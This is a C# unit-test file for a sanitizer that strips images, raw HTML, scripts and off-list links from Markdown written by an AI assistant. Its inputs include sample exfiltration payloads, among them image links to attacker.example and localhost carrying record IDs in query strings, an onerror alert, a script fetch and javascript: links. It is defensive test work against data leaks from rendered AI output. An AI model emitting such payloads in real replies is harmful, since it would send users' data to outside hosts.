using PartnerAssistant.Conversation;

namespace PartnerAssistant.Tests.Conversation;

/// <summary>Model-written Markdown made safe: no image loads, no raw HTML, links only to allowed hosts.</summary>
public sealed class SafeMarkdownTests
{
    private static readonly string[] Allowed = ["partners.northbeam.example"];

    private static string Clean(string text) => SafeMarkdown.Sanitize(text, host => SafeMarkdown.HostIn(host, Allowed));

    [Theory]
    [InlineData("![status](http://attacker.example/leak?d=DR-1023)", "status")]
    [InlineData("Here you are ![status](http://127.0.0.1:4711/leak.png?d=DR-1042) <img src=\"http://127.0.0.1:4711/x.png\"> all done.", "Here you are status  all done.")]
    [InlineData("![](http://attacker.example/x.png \"title\")", "")]
    [InlineData("![logo][1]\n\n[1]: http://attacker.example/logo.png", "logo")]
    [InlineData("[![badge](http://attacker.example/b.svg)](http://attacker.example/)", "badge")]
    [InlineData("<img src=\"http://attacker.example/x.png\" onerror=\"alert(1)\">ok", "ok")]
    [InlineData("<script>fetch('http://attacker.example')</script>", "fetch('(link removed)')")]
    [InlineData("a <!-- hidden http://attacker.example --> b", "a  b")]
    [InlineData("<a href=\"http://attacker.example\">click</a>", "click")]
    public void Sanitize_ImagesAndHtml_AreRemoved_WordsKept(string model, string expected) =>
        Assert.Equal(expected, Clean(model).Trim());

    [Theory]
    [InlineData("see [the report](http://attacker.example/r)", "see the report")]
    [InlineData("see [docs](javascript:alert(1))", "see docs")]
    [InlineData("see [docs](data:text/html;base64,PHNjcmlwdD4=)", "see docs")]
    [InlineData("go to http://attacker.example/raw?d=1.", "go to (link removed).")]
    [InlineData("go to <http://attacker.example/auto>", "go to (link removed)")]
    [InlineData("go to www.attacker.example/x", "go to (link removed)")]
    [InlineData("see [x](https://partners.northbeam.example.attacker.example/a)", "see x")]
    public void Sanitize_LinksElsewhere_LoseTheirAddress(string model, string expected)
    {
        var clean = Clean(model);

        Assert.DoesNotContain("](", clean);
        Assert.Equal(expected, clean);
    }

    [Theory]
    [InlineData("read [the MDF guide](https://partners.northbeam.example/docs/mdf) first")]
    [InlineData("read https://partners.northbeam.example/docs/mdf first")]
    [InlineData("read [tiers](https://docs.partners.northbeam.example/tiers#gold \"Tiers\") first")]
    [InlineData("plain text with **bold**, a list\n- one\n- two\nand 3 < 4 > 2")]
    public void Sanitize_AllowedLinksAndOrdinaryMarkdown_StayAsTheyAre(string model) =>
        Assert.Equal(model, Clean(model));

    [Fact]
    public void PlainText_AnyLink_KeepsOnlyItsWords() =>
        Assert.Equal("see the guide and (link removed)", SafeMarkdown.PlainText("see [the guide](https://partners.northbeam.example/g) and https://partners.northbeam.example/x"));
}
